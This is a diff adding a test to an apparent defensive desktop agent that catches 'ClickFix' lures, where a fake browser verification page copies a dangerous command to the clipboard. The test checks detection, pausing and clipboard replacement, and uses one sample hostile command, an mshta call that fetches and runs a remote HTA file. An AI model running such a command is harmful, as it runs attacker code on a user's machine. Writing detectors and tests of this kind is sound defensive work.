@@ -257,3 +257,40 @@ def test_guard_reads_nothing_from_programs_that_are_not_browsers():
     change = clip.wait(1.0)
     assert g.on_change(clip, change) is None and reads == [] and api.text == COMMAND
 
+
+
+# -- wiring: the agent's own threads on the fake desktop ----------------------------------------
+def test_agent_wiring_setting_and_pause(tmp_path):
+    """The guard runs in the agent (unless ``clipboard.guard = false``); its trigger goes
+    through the worker to a ``clickfix`` event; a paused agent leaves the clipboard alone.
+    The owner is unknown here (macOS-like): the browser in front stands for it."""
+    from agent import events
+    from agent.app import Agent
+    from agent.platform.clipboard import FakeClipboard
+    from agent.platform.fake import FakeBackend
+    from tests.waiting import wait_event
+    chrome = WindowInfo(id=7, title="Verify you are human - Google Chrome", pid=None, process_name="chrome",
+                        wm_class="google-chrome.Google-chrome")
+    off = Agent(Settings(clipboard_guard=False), [], backend=FakeBackend([chrome]), downloads_dir=tmp_path)
+    off.start()
+    try:
+        assert "vigie-clipboard" not in [t.name for t in off._threads]
+    finally:
+        off.stop()
+    clip = FakeClipboard()
+    a = Agent(Settings(language="en"), [], backend=FakeBackend([chrome]), downloads_dir=tmp_path, clipboard=clip)
+    a.start()
+    try:
+        a.pause(600)
+        clip.copy(COMMAND, None)
+        assert wait_for(lambda: clip.text == COMMAND, 10)       # the guard took it...
+        waits = clip.waits
+        assert wait_for(lambda: clip.waits > waits, 10)          # ...and is waiting again
+        a.resume()
+        clip.copy("mshta http://192.0.2.21/verify.hta", None)
+        ev = wait_event(lambda e: e["type"] == "clickfix", 30)
+        assert ev["command"].startswith("mshta") and ev["browser"] == "chrome" and ev["title"] == chrome.title
+        assert clip.replaced == ["Vigie removed a dangerous command that a web page copied here."]
+        assert [e["type"] for e in events.read()].count("clickfix") == 1 and a.state == "alert"
+    finally:
+        a.stop()
